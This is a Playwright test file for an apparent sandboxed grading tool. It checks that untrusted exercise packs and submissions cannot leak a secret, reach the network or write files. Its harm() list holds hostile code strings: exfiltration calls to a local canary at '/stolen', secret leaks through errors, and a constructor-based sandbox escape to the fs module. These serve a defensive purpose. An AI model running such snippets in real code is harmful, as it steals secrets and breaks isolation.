import { cpSync, existsSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { expect, test } from '@playwright/test';
import { findChromium } from '#lib/runner/chromium/find-chromium.ts';
import { launchChromium } from '#lib/runner/chromium/launch-chromium.ts';
import { sandboxAddress } from '#lib/runner/browser/sandbox-page.ts';
import { serveJudge } from '#lib/runner/chromium/serve-judge.ts';
import { openCanary, type Canary } from './support/canary.ts';
import { runScript } from './support/command-line.ts';

const SECRET = { GRADUS_TEST_SECRET: 'the-secret-of-this-machine' };
const EXERCISE = 'exercises/work/double';

test.setTimeout(600_000);

let [root, canary]: [string, Canary] = [] as never;

test.beforeAll(async () => {
  canary = await openCanary();
});
test.afterAll(() => canary.close());
test.beforeEach(() => {
  root = mkdtempSync(join(tmpdir(), 'gradus-untrusted-'));
  cpSync('tests/packs/broken/_sound', root, { recursive: true });
});
test.afterEach(() => {
  rmSync(root, { recursive: true });
  expect(canary.connections()).toBe(0);
});

const checkPacks = (...options: readonly string[]) => runScript('scripts/check-packs.ts', [root, ...options], SECRET);

/** What code of others would do on this machine, each at its own risk. */
function harm(): readonly string[] {
  const file = JSON.stringify(join(root, 'written'));
  const escape = "(() => 0).constructor('return this')()";
  return [
    `throw new Error('SAW ' + process.env.GRADUS_TEST_SECRET)`,
    `fetch('http://127.0.0.1:${canary.port}/stolen')`,
    `new WebSocket('ws://127.0.0.1:${canary.port}/stolen')`,
    `importScripts('http://127.0.0.1:${canary.port}/stolen')`,
    `import('http://127.0.0.1:${canary.port}/stolen')`,
    `require('node:fs').writeFileSync(${file}, '')`,
    `import('node:fs').then((fs) => fs.writeFileSync(${file}, ''))`,
    `${escape}.process.getBuiltinModule('fs').writeFileSync(${file}, '')`,
  ];
}

const tried = (code: string): string => `try { Promise.resolve(${code}).catch(() => undefined); } catch {}`;

test('a pack of another folder is proved without --trusted', async () => {
  const { status, output } = await checkPacks();
  expect(output).toContain('1 of 1 mistakes caught');
  expect(output).toContain('0 errors');
  expect(status).toBe(0);
});

test('a pack of others that means harm reaches neither the network nor the files, and is reported', async () => {
  const solution = join(root, EXERCISE, 'solution.ts');
  const right = readFileSync(solution, 'utf8');
  for (const code of harm().slice(0, 3)) {
    writeFileSync(
      solution,
      `${right}\n(globalThis as any).x;\n${code.replace('process', '(globalThis as any).process')};\n`,
    );
    const { status, output } = await checkPacks('--exercise', 'work/double');
    expect(status, output).toBe(1);
    expect(output).toContain('exercises/work/double/solution.ts:1:1 the exercise could not be judged');
    expect(output).not.toContain(SECRET.GRADUS_TEST_SECRET);
  }
});

test('what a pack of others tries in silence comes to nothing', async () => {
  for (const file of ['solution.ts', 'mistakes/tripled.ts', 'solutions/added.ts']) {
    const path = join(root, EXERCISE, file);
    writeFileSync(path, `// @ts-nocheck\n${readFileSync(path, 'utf8')}\n${harm().map(tried).join('\n')}\n`);
  }
  const { output } = await checkPacks();
  expect(output).not.toContain(SECRET.GRADUS_TEST_SECRET);
  expect(existsSync(join(root, 'written'))).toBe(false);
});

test('a submission is graded as code of others, unless it is trusted', async () => {
  const file = join(root, 'submission.ts');
  const right = readFileSync('exercises/losses/softmax/solution.ts', 'utf8');
  const graded = async (code: string) => {
    writeFileSync(file, `${right}\n${code}\n`);
    return runScript('scripts/grade.ts', ['losses/softmax', file, '--lane', 'exact', '--json'], SECRET);
  };
  const { status, output } = await graded(harm().map(tried).join('\n'));
  expect(status, output).toBe(0);
  expect(existsSync(join(root, 'written'))).toBe(false);
  for (const code of harm().slice(0, 3)) {
    const report = await graded(`${code};`);
    expect(report.output).toContain('"verdict": "error"');
    expect(report.output).not.toContain(SECRET.GRADUS_TEST_SECRET);
  }
});

test('where there is no Chromium, it says what to install, and runs nothing', async () => {
  const none = { GRADUS_CHROMIUM: '/nowhere/chromium' };
  const submission = ['losses/softmax', 'exercises/losses/softmax/solution.ts'];
  for (const [script, args] of [
    ['scripts/check-packs.ts', [root]],
    ['scripts/grade.ts', submission],
  ] as const) {
    const { status, output } = await runScript(script, args, none);
    expect(status).toBe(2);
    expect(output).toContain('There is no Chromium at /nowhere/chromium');
    expect(output).toContain('--trusted');
  }
});

test('the Chromium itself reaches the judge’s files and nothing else, before any door of a realm is closed', async () => {
  const found = findChromium();
  if (!found.ok) throw new Error(found.problem);
  const server = await serveJudge();
  const { browser, page } = await launchChromium(found.value, server.port);
  try {
    await page.goto(`http://127.0.0.1:${server.port}${sandboxAddress('data')}`);
    const reached = await page.evaluate(ATTEMPTS, [canary.port, server.port] as const);
    expect(reached).toEqual([]);
    for (const url of [
      `http://127.0.0.1:${canary.port}/`,
      `http://localhost:${canary.port}/`,
      'file:///etc/hostname',
    ]) {
      await expect(page.goto(url)).rejects.toThrow(/ERR_/);
    }
    // Past Playwright’s own refusals.
    const devtools = await page.context().newCDPSession(page);
    await page.context().unrouteAll();
    await devtools.send('Page.navigate', { url: `http://127.0.0.1:${canary.port}/` });
    await devtools.send('Page.navigate', { url: `http://localhost:${canary.port}/` });
  } finally {
    await browser.close();
    server.close();
  }
});

/** Whatever a page or a worker of it can ask the network with; answers which of them came through. */
async function ATTEMPTS([other, own]: readonly [number, number]): Promise<string[]> {
  const attempts = async (ports: readonly number[]): Promise<string[]> => {
    const came: string[] = [];
    const attempt = async (name: string, act: () => unknown): Promise<void> => {
      const within = new Promise((_, reject) => setTimeout(reject, 3_000));
      try {
        await Promise.race([act(), within]);
        came.push(name);
      } catch {
        // As it should be.
      }
    };
    const opened = (target: EventTarget): Promise<unknown> =>
      new Promise((resolve, reject) => {
        for (const type of ['open', 'message', 'load']) target.addEventListener(type, resolve);
        target.addEventListener('error', reject);
      });
    const scope = globalThis as unknown as { importScripts?: (url: string) => void };
    for (const port of ports) {
      const url = `http://127.0.0.1:${port}/judge/judge.js`;
      await Promise.all([
        attempt(`fetch ${port}`, () => fetch(url)),
        attempt(`opaque fetch ${port}`, () => fetch(url, { mode: 'no-cors' })),
        attempt(`socket ${port}`, () => opened(new WebSocket(url.replace('http', 'ws')))),
        attempt(`events ${port}`, () => opened(new EventSource(url))),
        attempt(`import ${port}`, () => import(url)),
        attempt(`worker ${port}`, () => opened(new Worker(url))),
      ]);
      if (scope.importScripts) await attempt(`scripts ${port}`, () => scope.importScripts!(url));
    }
    return came;
  };
  const source = `(${attempts.toString()})(${JSON.stringify([other, own])}).then(postMessage)`;
  const worker = new Worker(`data:text/javascript,${encodeURIComponent(source)}`);
  const fromWorker = new Promise<string[]>((resolve) => {
    worker.addEventListener('message', ({ data }: MessageEvent<string[]>) => resolve(data));
  });
  return [...(await attempts([other, own])), ...(await fromWorker)];
}
